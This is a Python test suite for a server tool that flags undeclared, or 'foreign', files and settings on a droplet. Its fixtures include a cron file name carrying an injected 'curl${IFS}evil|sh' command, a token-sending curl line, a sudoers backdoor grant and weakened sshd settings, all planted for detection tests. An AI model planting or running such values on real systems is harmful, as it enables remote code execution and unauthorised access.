"""stackctl reports exactly the undeclared things on a droplet as foreign."""

from __future__ import annotations

import os
import time

import pytest

from stackctl.core import config
from stackctl.core.errors import RefusedError
from stackctl.host import foreign
from tests.support.foreign_droplet import FINGERPRINT, KEY, Droplet


def test_an_acceptance_of_a_missing_finding_is_reported(bare: Droplet) -> None:
    bare.declared["accepted"] = {"/etc/cron.d/backup": "the agency's", "account:eve": "hers"}
    lines = foreign.problems(bare.look())
    assert [line.split()[2].rstrip(",") for line in lines] == ["/etc/cron.d/backup", "account:eve"]


def test_without_the_site_s_list_nothing_is_foreign_and_that_is_reported(bare: Droplet) -> None:
    bare.put("etc/cron.d/job", "x")
    bare.look()
    for content in (None, "", "[]", '{"files": 1}'):
        bare.paths.declared.unlink(missing_ok=True)
        if content is not None:
            bare.paths.declared.write_text(content)
        found = foreign.look(bare.paths, config.load(bare.paths), bare.machine)
        (line,) = foreign.problems(found)
        assert (found.findings, line.endswith("make site")) == ([], True)


def test_files_of_the_site_are_not_foreign(bare: Droplet) -> None:
    bare.put("etc/cron.d/job", "x")
    bare.put("home/ci/.ssh/authorized_keys", f"ssh-ed25519 {KEY}\n")
    assert len(bare.names()) == 2
    bare.declared["files"] += ["/etc/cron.d/job", "/home/ci/.ssh/authorized_keys"]
    assert bare.names() == []


def test_sshd_obeying_another_file_is_refused_by_that_file_s_name(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/00-aaa.conf", "PasswordAuthentication yes\n")
    found = {one.name: one for one in bare.look().findings}
    assert found.keys() == {"sshd:passwordauthentication", "/etc/ssh/sshd_config.d/00-aaa.conf"}
    told = found["sshd:passwordauthentication"]
    assert (told.remedy, told.path) == ("refuse", "/etc/ssh/sshd_config.d/00-aaa.conf")
    assert foreign.next_step(told) == "make site REMOVE=/etc/ssh/sshd_config.d/00-aaa.conf"
    bare.remove("/etc/ssh/sshd_config.d/00-aaa.conf")
    assert bare.names() == []


def test_a_later_file_of_sshd_s_changes_nothing_in_force(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/zz.conf", "PasswordAuthentication yes\n")
    assert bare.names() == ["/etc/ssh/sshd_config.d/zz.conf"]


def test_a_permission_of_sshd_for_one_login_is_found(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/00-aaa.conf", "Match User root\nPasswordAuthentication yes\n")
    assert "sshd:passwordauthentication" in bare.names()


def test_keys_are_looked_for_where_sshd_looks(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/00-aaa.conf", "AuthorizedKeysFile /srv/keys/%u\n")
    bare.put("srv/keys/root", f"ssh-ed25519 {KEY}\n")
    assert f"key:root:{FINGERPRINT}" in bare.names()


def test_a_program_that_answers_for_keys_is_reported(bare: Droplet) -> None:
    bare.put("etc/ssh/sshd_config.d/zz.conf", "AuthorizedKeysCommand /tmp/x\n")
    assert "sshd:authorizedkeyscommand" in bare.names()


def test_a_sysctl_file_that_overrides_ours_is_reported_with_its_parameter(bare: Droplet) -> None:
    bare.put("etc/sysctl.d/99-zz.conf", "net.ipv4.conf.all.rp_filter=0\n")
    assert bare.names() == ["/etc/sysctl.d/99-zz.conf"]
    bare.declared["accepted"] = {"/etc/sysctl.d/99-zz.conf": "we know"}
    bare.look()
    bare.declared["files"].append("/etc/sysctl.d/99-zz.conf")
    assert bare.names() == ["sysctl.d:net.ipv4.conf.all.rp_filter"]


def test_an_endless_or_blocking_file_of_keys_delays_nothing(bare: Droplet) -> None:
    keys = bare.root / "home/ci/.ssh"
    keys.mkdir(parents=True)
    os.mkfifo(keys / "authorized_keys")
    (keys / "authorized_keys2").symlink_to("/dev/zero")
    began = time.monotonic()
    assert bare.names() == []
    assert time.monotonic() - began < 5


def test_names_and_contents_are_shown_printable_and_no_command_is_shown(bare: Droplet) -> None:
    bare.put("etc/cron.d/a\x1b[2Jb\u202e", "* * * * * root curl -H 'Token: s3cr3t' x\n")
    bare.add("root/.ssh/authorized_keys", f"ssh-ed25519 {KEY} eve\x1b[2J\n")
    text = "\n".join(foreign.problems(bare.look()))
    assert text.replace("\n", "").isprintable()
    assert "s3cr3t" not in text
    assert "\\x1b" in text


def test_a_name_that_a_shell_would_obey_is_no_command_and_is_not_removed(bare: Droplet) -> None:
    """A hostile name is never a part of a command, because an operator pastes commands into a local shell."""
    bare.put("etc/cron.d/x;curl${IFS}evil|sh", "x")
    (line,) = foreign.problems(bare.look())
    assert line.endswith("correct this by hand, or accept that name in group_data (foreign_accepted)")
    with pytest.raises(RefusedError, match="is not the name of a foreign thing that can be removed"):
        bare.remove("/etc/cron.d/x;curl${IFS}evil|sh")


def test_a_blank_makes_no_name_pass_for_an_accepted_one(bare: Droplet) -> None:
    bare.declared["accepted"] = {"/etc/sudoers.d/x": "we know"}
    for name in ("x", "x ", "x\n"):
        bare.put(f"etc/sudoers.d/{name}", "eve ALL=(ALL) ALL\n")
    assert sorted(bare.names()) == ["/etc/sudoers.d/x\\x0a", "/etc/sudoers.d/x\\x20"]


def test_files_of_debian_and_cloud_init_are_not_foreign(bare: Droplet) -> None:
    bare.put("etc/cron.d/e2scrub.dpkg-dist", "x")
    bare.put("etc/systemd/system/bot.service.dpkg-old", "x")
    permit = "auth required pam_permit.so\n"
    bare.add("etc/pam.d/common-auth", permit)
    bare.put(
        "etc/pam.d/common-session", f"{permit.replace('required', '[default=1]')}{permit}".replace("auth", "session")
    )
    pipelining = "//Written by cloud-init per 'apt_pipelining'\nAcquire::http::Pipeline-Depth \"0\";\n"
    bare.put("etc/apt/apt.conf.d/90cloud-init-pipelining", pipelining)
    bare.put("etc/apt/mirrors/debian.list", "https://ftp.debian.org/debian\n")
    uris = "Types: deb deb-src\nURIs: mirror+file:///etc/apt/mirrors/debian.list\n"
    bare.put("etc/apt/sources.list.d/debian.sources", f"{uris}Suites: trixie trixie-updates\nComponents: main\n")
    bare.put("etc/environment", 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games"\n')
    rule = 'SUBSYSTEM=="net", ACTION=="add", DRIVERS=="?*", ATTR{address}=="de:ad:00:00:00:01", NAME="eth0"\n'
    bare.put("etc/udev/rules.d/70-persistent-net.rules", rule)
    bare.put("run/udev/rules.d/99-netplan-eth0.rules", rule)
    wait = "systemd-networkd-wait-online"
    condition = f"ConditionPathIsSymbolicLink=/run/systemd/generator/network-online.target.wants/{wait}.service"
    starts = "".join(f"ExecStart={command}\n" for command in ("", f"/lib/systemd/{wait} --any --dns -i eth0:degraded"))
    text = f"[Unit]\n{condition}\n\n[Service]\n{starts}"
    bare.put(f"run/systemd/system/{wait}.service.d/10-netplan.conf", text)
    nodes = "c! /dev/fuse 0600 - - - 10:229\nd /dev/net 0755 - - - \nc! /dev/net/tun 0600 - - - 10:200\n"
    bare.put("run/tmpfiles.d/static-nodes.conf", nodes)
    assert bare.names() == []


def test_of_sshd_s_configuration_an_image_may_have_set_what_our_drop_in_decides(bare: Droplet) -> None:
    debians = "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n"
    bare.put("usr/share/openssh/sshd_config", f"# Debian's\n{debians}")
    bare.put("var/lib/ucf/hashfile", f"{'0' * 32}  /etc/ssh/sshd_config\n")
    bare.put("etc/ssh/sshd_config", f"PermitRootLogin yes\n{debians}PasswordAuthentication no\n")
    assert bare.names() == []
    for more in ("PermitRootLogin yes\nUsePAM no\n", "Match User eve\nPermitRootLogin yes\n"):
        bare.put("etc/ssh/sshd_config", debians + more)
        assert (bare.only().name, bare.only().remedy) == ("/etc/ssh/sshd_config", "hand")


def test_a_hundred_findings_make_no_hundred_lines(bare: Droplet) -> None:
    for number in range(100):
        bare.put(f"etc/cron.d/job{number}", "x")
    lines = foreign.problems(bare.look())
    assert len(lines) == foreign.MOST_PROBLEMS + 1
    assert lines[-1].startswith("80 more")
